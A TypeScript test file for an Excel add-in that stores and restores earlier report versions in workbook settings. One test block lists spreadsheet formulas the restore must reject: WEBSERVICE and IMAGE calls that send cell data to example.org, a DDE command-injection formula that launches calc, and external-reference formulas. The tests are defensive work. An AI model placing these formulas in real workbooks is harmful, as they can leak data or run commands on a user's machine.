/** Earlier results, kept in the workbook: over two openings, within their room, and out of anybody's workbook only what is harmless. */
import { packed, staysInside, unpacked } from '../../src/workbook/kept';
import type { CellSpec, Report } from '../../src/workbook/workbook';
import { reopen } from '../excel-host/book';
import { report, sheetSpec } from './contract';
import { excelBench } from './excelBench';
import { MODEL, recovers, sheetOf, usersCells, writingUnder } from './faults/bench';

const keep = { keep: true } as const;

test('written again after the workbook was opened anew, as it was, in the same two round trips', async () => {
  const first = await writingUnder(() => undefined, { how: keep });
  const { exchanges } = first.bench.host;
  const said = exchanges.length;
  await first.workbook.write(report('run 2', '8'), keep);
  const plain = await writingUnder(() => undefined);
  const plainSaid = plain.bench.host.exchanges.length;
  await plain.workbook.write(report('run 2', '8'));
  expect(exchanges.length - said).toBe(plain.bench.host.exchanges.length - plainSaid);

  reopen(first.bench.host.book);
  const again = await first.bench.open();
  const kept = await again.earlier?.list();
  expect(kept).toEqual([report('run 2', '8'), report('run 1')]);
  const [, oldest] = kept ?? [];
  if (oldest === undefined) throw new Error('nothing was kept');
  await again.write(oldest, keep);
  expect(await first.bench.look('Summary', 'C8')).toBe(5);
  expect((await again.earlier?.list())?.map((one) => one.stamp)).toEqual(['run 1', 'run 2']);
  await again.earlier?.forget();
  expect([await again.earlier?.list(), first.bench.host.book.settings.size]).toEqual([[], 0]);
});

test('eight are kept, and a million letters of them: the oldest give way, and one that is larger is not kept', async () => {
  const bench = excelBench(MODEL);
  const workbook = await bench.open();
  for (let n = 1; n <= 10; n += 1) await workbook.write(report(`run ${String(n)}`), keep);
  expect((await workbook.earlier?.list())?.map((one) => one.stamp)).toEqual(
    [10, 9, 8, 7, 6, 5, 4, 3].map((n) => `run ${String(n)}`),
  );
  const { settings } = bench.host.book;
  settings.clear();
  for (const n of [1, 2, 3]) settings.set(`realise.earlier.${String(n)}.400000.${String(n)}`, 'packed');
  await workbook.write(report('run 11'), keep);
  expect([...settings.keys()].map((key) => key.split('.')[2])).toEqual(['2', '3', '4']);
  const large = { ...report('run 12'), sheets: [sheetSpec('summary', 'Summary', noise(1_000_000))], names: [] };
  expect((await packed(large))?.length).toBeGreaterThan(1_000_000);
  await workbook.write(large, keep);
  expect(settings.size).toBe(3);
});

/** Cells with so many letters without rhyme or reason, which cannot be packed. */
function noise(many: number): readonly CellSpec[] {
  let seed = 1;
  const letter = (): string => {
    seed = (seed * 48_271) % 2_147_483_647;
    return String.fromCharCode(33 + (seed % 90));
  };
  return Array.from({ length: many / 20_000 }, (_, n) => ({
    row: 10 + n,
    column: 2,
    value: Array.from({ length: 20_000 }, letter).join(''),
    style: 'body',
  }));
}

test.each(['SettingCollection.Add', 'SettingCollection.GetItemOrNullObject', 'Setting.Delete'])(
  'an Excel that refuses %s gets its sheets all the same',
  async (member) => {
    const outcome = await writingUnder(
      ({ host }) => {
        host.book.settings.set('realise.earlier.1.999999.0', 'x');
        host.forbid(member, 'GeneralException');
      },
      { how: keep },
    );
    expect(outcome.message).toBe('written');
    await recovers(outcome);
  },
);

test('a payer copy is made from the snapshot alone (src/share), and the snapshot holds nothing of what is kept', async () => {
  const { bench, workbook } = await writingUnder(() => undefined, { how: keep });
  const [kept] = [...bench.host.book.settings.values()];
  expect(JSON.stringify(await workbook.read())).not.toContain(String(kept).slice(0, 40));
});

test('an Excel that loses settings loses the list and nothing else', async () => {
  const { bench } = await writingUnder(() => undefined, { how: keep });
  const before = usersCells(bench.host.book);
  bench.host.book.forgets = true;
  reopen(bench.host.book);
  const workbook = await bench.open();
  expect(await workbook.earlier?.list()).toEqual([]);
  expect((await workbook.read()).owned.map((sheet) => sheet.changed)).toEqual([false, false]);
  expect(usersCells(bench.host.book)).toBe(before);
  expect(sheetOf(bench, 'Summary').cells.size).toBeGreaterThan(3);
});

describe('what stands in a workbook of somebody else', () => {
  const with_ = (formula: string): Report => ({
    ...report('run 1'),
    sheets: [
      sheetSpec('summary', 'Summary', [
        { row: 10, column: 2, value: { formula, cached: { number: '1' } }, style: 'figure' },
      ]),
    ],
  });
  test.each([
    '=WEBSERVICE("https://example.org/"&Prices!C3)',
    '=HYPERLINK("https://example.org/"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    '=[Other.xlsx]Sheet1!A1',
    "='C:\\[Other.xlsx]Sheet1'!A1",
    '=SUM(A1,_xlfn.STOCKHISTORY("X",1))',
    '=IMAGE("https://example.org/"&A1)',
    '=INDIRECT(A1)',
  ])('%s is not written by Restore', async (formula) => {
    expect(staysInside(formula)).toBe(false);
    expect(await unpacked(await packed(with_(formula)))).toBeNull();
  });

  test('what is no report of ours is left out, whatever it is', async () => {
    const bench = excelBench(MODEL);
    const good = await packed(report('run 1'));
    const sheets = await packed({ ...report('x'), sheets: [{ key: '../x' }] } as unknown as Report);
    const odd = [good?.slice(0, 40), '%%%', '', 5, { a: 1 }, sheets, good];
    odd.forEach((value, n) => bench.host.book.settings.set(`realise.earlier.${String(n + 1)}.10.${String(n)}`, value));
    bench.host.book.settings.set('somebody.else', 'x');
    const workbook = await bench.open();
    expect(await workbook.earlier?.list()).toEqual([report('run 1')]);
    await workbook.earlier?.forget();
    expect([...bench.host.book.settings.keys()]).toEqual(['somebody.else']);
  });
});
